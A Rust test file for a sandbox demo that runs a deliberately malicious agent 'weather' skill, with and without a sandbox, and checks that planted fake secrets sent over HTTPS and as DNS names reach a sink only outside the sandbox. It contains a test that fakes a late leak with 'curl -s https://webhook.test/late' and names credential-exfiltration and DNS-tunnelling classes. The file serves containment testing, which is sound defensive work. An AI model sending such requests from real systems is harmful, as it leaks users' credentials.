//! The demo, played: without a sandbox everything arrives, in it nothing does, and the table says what the sink and the traces say.

use std::collections::BTreeSet;
use std::os::unix::fs::PermissionsExt as _;

use serde_json::Value;

use crate::shown::{REAL, Shown, demo, skillsandbox};

const ATTACK: &str = include_str!("../../../../examples/skills/malicious-weather/ATTACK.md");
const THIEF: &str = include_str!("../../../../examples/skills/malicious-weather/main.py");
const DOCKERFILE: &str = include_str!("../../../../Dockerfile");
const COMPOSE: &str = include_str!("../../../../docker-compose.yml");
const KERNEL_SUPPORT: &str = include_str!("../../../../docs/kernel-support.md");

/// The record up to our own first visit, which comes after the run in the sandbox, and what is behind it.
fn is_visitor(line: &str) -> bool {
    line.contains("visitor-")
}

/// Counted here, from the sink's own lines, and not by the demo.
#[test]
fn row_157_the_sink_receives_everything_without_the_sandbox_and_nothing_in_it() {
    let shown = Shown::once();
    let evidence = shown.evidence();
    let record = shown.record();
    // The first run sends one request and then names. Everything behind that is our own visitors, who came each time.
    let stolen: Vec<&String> = record.iter().take_while(|line| !is_visitor(line)).collect();
    let rest: Vec<&String> = record.iter().skip(stolen.len()).filter(|line| !is_visitor(line)).collect();
    assert_eq!(rest, Vec::<&String>::new());
    let by_name = record.iter().filter(|line| is_visitor(line) && line.contains("\"dns\""));
    let names: BTreeSet<&String> = by_name.collect();
    let by_web = record.iter().filter(|line| is_visitor(line) && line.contains("\"https\"")).count();
    assert!(names.len() == 3 && by_web >= 3, "the sink was not there:\n{}", record.join("\n"));

    let request: Vec<&&String> = stolen.iter().filter(|line| line.contains("\"https\"")).collect();
    assert_eq!(request.len(), 1, "{stolen:?}");
    let planted = &evidence.planted;
    assert_eq!((planted.variables.len(), planted.files.len()), (6, 4));
    for (_, value) in planted.variables.iter().chain(&planted.files) {
        assert!(value.contains("FAKE"), "{value}");
        assert!(request[0].contains(value), "{value} did not arrive without the sandbox");
    }
    assert!(request[0].contains(&planted.agents_own));
    assert!(stolen.len() > 20, "names did not arrive without the sandbox: {stolen:?}");
    // Only what was planted is stolen.
    assert!(!record.join("\n").contains(REAL) && !shown.read("evidence.json").contains(REAL));

    // Every vector is on record, of which nothing is ours to judge: the trace is read as any JSON.
    let trace = shown.trace("malicious-weather");
    let summary = &trace["violation_summary"];
    assert_eq!(summary["all_prevented"], true);
    assert_eq!(summary["complete"], true);
    let classes: Vec<&str> =
        list(&summary["classifications"]).map(|found| found["class"].as_str().unwrap()).collect();
    for class in ["credential_harvesting", "credential_exfiltration", "dns_tunnelling", "supply_chain_attack"]
    {
        assert!(classes.contains(&class), "{class} is not among {classes:?}");
    }
    let stashed = |event: &&Value| {
        event["operation"] == "write"
            && event["verdict"] == "denied"
            && event["path"].as_str().is_some_and(|path| path.ends_with("/.weather"))
    };
    assert_eq!(list(&trace["events"]).filter(stashed).count(), 1);
    for (name, value) in planted.variables.iter().chain(&planted.files) {
        assert!(!trace.to_string().contains(value), "{name} is in the trace");
    }
}

fn list(value: &Value) -> impl Iterator<Item = &Value> {
    value.as_array().unwrap().iter()
}

/// A program in the place of `skillsandbox`: a script in which `/home/demo/bin/real` is the real one. The stage shows nothing of the machine
/// but its system, so that one travels inside.
fn play_with(script: &str) -> Shown {
    let head = "#!/bin/sh
real=/home/demo/bin/real
[ -x $real ] || { sed '1,/^#BINARY$/d' \"$0\" >$real && chmod 755 $real; }
";
    let folder = tempfile::tempdir().unwrap();
    let program = folder.path().join("skillsandbox");
    let text = format!("{head}{script}\nexit\n#BINARY\n");
    std::fs::write(&program, [text.as_bytes(), &std::fs::read(skillsandbox()).unwrap()].concat()).unwrap();
    std::fs::set_permissions(&program, std::fs::Permissions::from_mode(0o755)).unwrap();
    Shown::play(Some(&program))
}

/// A sandbox that holds nothing, with a trace that says otherwise: the real one runs, and then the skill once more without it.
#[test]
fn row_157_a_sandbox_that_leaks_is_found_out_whatever_its_trace_says() {
    let shown = play_with(
        "$real \"$@\"; code=$?
case $1-$2 in run-*malicious-weather) python3 examples/skills/malicious-weather/main.py Berlin >/dev/null ;; esac
exit $code",
    );
    assert_eq!(shown.code(), Some(1), "{}", shown.text);
    let wrong: Vec<&str> = shown.text.lines().filter(|line| line.starts_with("WRONG")).collect();
    for row in [
        "secrets in variables",
        "credential files",
        "the agent's own variables",
        "sent over HTTPS",
        "sent as names",
        "stashed on the disk",
        "at the sink in all",
    ] {
        assert!(wrong.iter().any(|line| line.contains(row)), "{row} is not wrong:\n{}", shown.text);
    }
    assert_eq!(shown.text.matches("LEAKED").count(), 7, "{}", shown.text);
}

/// Something that is sent after the run, when its part of the show is over, counts all the same.
#[test]
fn row_157_what_comes_late_is_a_leak_too() {
    let shown = play_with(
        "case $1-$2 in run-*/weather) curl -s https://webhook.test/late >/dev/null ;; esac
exec $real \"$@\"",
    );
    assert_eq!(shown.code(), Some(1), "{}", shown.text);
    let wrong: Vec<&str> = shown.text.lines().filter(|line| line.starts_with("WRONG")).collect();
    assert!(wrong.len() == 2 && wrong[0].contains("HTTPS") && wrong[1].contains("in all"), "{}", shown.text);
}

/// Where the scanner blocks the thief, `run` refuses it; that is shown, and then what happens to those who insist.
#[test]
fn a_thief_that_the_scanner_blocks_is_refused_first_and_then_held() {
    let blocks = "case \"$*\" in
scan*json*) echo '[{\"verdict\": \"BLOCKED\"}]'; exit 1 ;;
*--skip-scan*) ;;
run*malicious*) echo refused >&2; exit ANSWER ;;
esac
exec $real \"$@\"";
    let shown = play_with(&blocks.replace("ANSWER", "125"));
    assert_eq!(shown.code(), Some(0), "{}", shown.text);
    assert!(shown.text.contains("traces/malicious-weather.json --skip-scan"), "{}", shown.text);
    assert_eq!(
        shown.row("`run` of what the scanner blocks")[1..],
        ["not scanned", "refused", "scan: BLOCKED"]
    );
    let shown = play_with(&blocks.replace("ANSWER", "0"));
    assert_eq!(shown.code(), Some(1), "{}", shown.text);
}

/// A host on which nothing can be held is told so, with what to do, instead of being shown refusals as if something had been tried.
#[test]
fn where_no_sandbox_can_be_made_nothing_is_shown() {
    let shown = play_with("echo 'refused: the mounts layer is not available' >&2; exit 125");
    assert_eq!(shown.code(), Some(2), "{}", shown.text);
    assert!(
        shown.text.contains("cannot hold a sandbox") && shown.text.contains("mounts layer"),
        "{}",
        shown.text
    );
    assert!(shown.text.contains("--security-opt") && !shown.text.contains("== 1."), "{}", shown.text);
}

#[test]
fn row_158_the_honest_skill_works_and_the_agent_gets_the_same_json_from_both() {
    let shown = Shown::once();
    let evidence = shown.evidence();
    let [without, with, honest] =
        [&evidence.without, &evidence.with, &evidence.honest].map(|played| &played.ran);
    assert_eq!((without.code, with.code, honest.code), (Some(0), Some(0), Some(0)));
    assert_eq!((&with.output, &honest.output), (&without.output, &without.output));
    let weather: Value = serde_json::from_str(&honest.output).unwrap();
    assert_eq!(weather["city"], "Berlin");
    assert!(weather["temperature_c"].is_number() && weather["conditions"].is_string(), "{weather}");
    // The honest one is accused of nothing, and was let through to where it declared.
    let trace = shown.trace("weather");
    assert_eq!(trace["violation_summary"]["classifications"], serde_json::json!([]));
    let connections: Vec<&Value> =
        list(&trace["events"]).filter(|event| event["kind"] == "net_connect").collect();
    assert_eq!(connections.len(), 1, "{connections:#?}");
    assert_eq!(
        (&connections[0]["name"], &connections[0]["verdict"]),
        (&"api.weather.test".into(), &"allowed".into())
    );
}

#[test]
fn row_159_the_attack_is_explained_as_it_is() {
    for line in THIEF.lines().filter_map(|line| line.strip_prefix("def ")) {
        let name = line.split('(').next().unwrap();
        if name.starts_with("harvest_") || name.starts_with("send_") || name == "stash" {
            assert!(ATTACK.contains(&format!("`{name}`")), "ATTACK.md does not explain {name}");
        }
    }
    // What it says is on record is, and nothing that it leaves out.
    let shown = Shown::once();
    let trace = shown.trace("malicious-weather");
    for found in list(&trace["violation_summary"]["classifications"]) {
        let class = found["class"].as_str().unwrap();
        assert!(ATTACK.contains(&format!("`{class}`")), "ATTACK.md does not name {class}");
        for technique in list(&found["techniques"]).filter_map(|technique| technique["id"].as_str()) {
            let is_attack = technique.starts_with('T');
            assert!(!is_attack || ATTACK.contains(technique), "ATTACK.md does not name {technique}");
        }
    }
    let recorded = trace["violation_summary"]["classifications"].to_string();
    let words = ATTACK.split(|c: char| !c.is_ascii_alphanumeric() && c != '.');
    let ids = words.map(|word| word.trim_end_matches('.')).filter(|word| {
        word.strip_prefix('T')
            .is_some_and(|rest| rest.len() >= 4 && rest.bytes().all(|b| b.is_ascii_digit() || b == b'.'))
    });
    for id in ids.filter(|id| *id != "T1074.001") {
        assert!(recorded.contains(&format!("\"{id}\"")), "ATTACK.md says {id} is on record: {recorded}");
    }
}

#[test]
fn row_160_the_demo_plays_its_phases_and_its_table_is_what_was_measured() {
    let shown = Shown::once();
    let at = |text: &str| shown.text.find(text).unwrap_or_else(|| panic!("no {text} in\n{}", shown.text));
    let phases = [
        "== 1. The thief, without a sandbox",
        "== 2. The same thief, in the sandbox",
        "== 3. The honest skill, in the sandbox",
        "== 4. By hand: curl",
        "== 5. By hand: the planted key",
        "== What the sink received",
    ];
    assert!(phases.map(at).is_sorted(), "{}", shown.text);
    let record = shown.record();
    let stolen = record.iter().take_while(|line| !is_visitor(line));
    let names: BTreeSet<&String> = stolen.filter(|line| line.contains("\"dns\"")).collect();
    let row = shown.row("sent as names (DNS)");
    assert_eq!(
        (row[1].as_str(), row[2].as_str()),
        (format!("{} names, 11 secrets", names.len()).as_str(), "0 names")
    );
    let trace = shown.trace("malicious-weather");
    let environment = list(&trace["events"]).find(|event| event["subject"] == "environment").unwrap();
    let row = shown.row("secrets in variables");
    assert_eq!((row[1].as_str(), row[2].as_str()), ("6 of 6 arrived", "0 of 6"));
    let stripped = &environment["figures"]["stripped"];
    assert!(row[3].starts_with(&format!("policy: {stripped} variables withheld")), "{row:?}");
    assert_eq!(shown.row("cat, the planted key")[1..3], ["works", "refused, exit code 1"]);
    assert_eq!(shown.row("curl, the declared host")[1..3], ["works", "works"]);
    assert_eq!(shown.row("curl, another host")[1..3], ["works", "refused, exit code 6"]);
    assert_eq!(shown.row("curl, its bare address")[1..3], ["works", "refused, exit code 7"]);
    assert!(!shown.text.contains('\x1b'), "colours, and nobody is looking");
}

/// The image starts this very program, as no special user and with the options that are documented, and with no capability.
#[test]
fn row_160_the_container_starts_the_demo_without_a_capability() {
    let last = |word: &str| DOCKERFILE.lines().rfind(|line| line.starts_with(word)).unwrap_or_default();
    assert_eq!(last("ENTRYPOINT"), "ENTRYPOINT [\"skillsandbox-demo\"]");
    assert!(!["", "USER root", "USER 0"].contains(&last("USER")), "{}", last("USER"));
    assert!(DOCKERFILE.contains("--package skillsandbox --package skillsandbox-demo"));
    for text in [DOCKERFILE, COMPOSE] {
        for word in ["privileged", "cap_add", "--cap-add"] {
            assert!(!text.contains(word), "{word}");
        }
    }
    assert!(COMPOSE.contains("cap_drop: [ALL]") && COMPOSE.contains("network_mode: none"), "{COMPOSE}");
    for option in ["seccomp=unconfined", "apparmor=unconfined", "systempaths=unconfined"] {
        assert!(KERNEL_SUPPORT.contains(option) && COMPOSE.contains(option), "{option}");
    }
}

/// The attack runs where it can do no harm, or not at all.
#[test]
fn off_the_stage_nothing_is_played() {
    let folder = tempfile::tempdir().unwrap();
    for act in ["show", "shell"] {
        let output = demo(&["on-stage", act]).current_dir(folder.path()).output().unwrap();
        let said = String::from_utf8_lossy(&output.stderr).into_owned();
        assert_eq!(output.status.code(), Some(2), "{said}");
        assert!(said.contains("this is no stage"), "{said}");
    }
    assert_eq!(std::fs::read_dir(folder.path()).unwrap().count(), 0);
}

#[test]
fn what_is_kept_needs_a_folder_of_its_own_and_a_program_that_is_there() {
    let folder = tempfile::tempdir().unwrap();
    std::fs::write(folder.path().join("mine"), "x").unwrap();
    let there = demo(&["--keep", folder.path().to_str().unwrap()]).output().unwrap();
    assert_eq!(there.status.code(), Some(2));
    assert_eq!(std::fs::read_dir(folder.path()).unwrap().count(), 1);
    let missing = demo(&["--skillsandbox", "/nonexistent/skillsandbox"]).output().unwrap();
    assert_eq!(missing.status.code(), Some(2));
    let said = String::from_utf8_lossy(&missing.stderr).into_owned();
    assert!(said.contains("cargo build --package skillsandbox"), "{said}");
    for arguments in [&["--keep"][..], &["--fast", "x"], &["judge", "/nonexistent"]] {
        assert_eq!(demo(arguments).output().unwrap().status.code(), Some(2), "{arguments:?}");
    }
}
